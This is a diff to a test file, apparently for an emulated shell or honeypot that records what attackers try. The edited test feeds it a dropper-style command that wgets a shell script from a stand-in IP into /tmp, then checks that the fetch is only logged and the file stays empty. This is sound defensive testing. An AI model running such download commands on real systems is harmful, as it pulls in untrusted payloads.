@@ -78,9 +78,9 @@ def test_busybox_complains_in_its_own_words(player: Callable[..., Player]) -> No
 
 
 def test_nothing_is_fetched_and_the_request_is_recorded(run: Player) -> None:
-    played = run("cd /tmp; wget -q http://198.51.100.9/m.sh -O m.sh; ls m.sh")
+    played = run("cd /tmp; wget -q http://198.51.100.9/m.sh -O m.sh; stat -c %s m.sh; rm m.sh")
     assert [(one.action, one.detail["url"]) for one in played.requested] == [("fetch", "http://198.51.100.9/m.sh")]
-    assert "No such file" in played.errors
+    assert played.text == "0\n"
 
 
 def test_a_dropped_file_is_captured_byte_for_byte(run: Player) -> None:
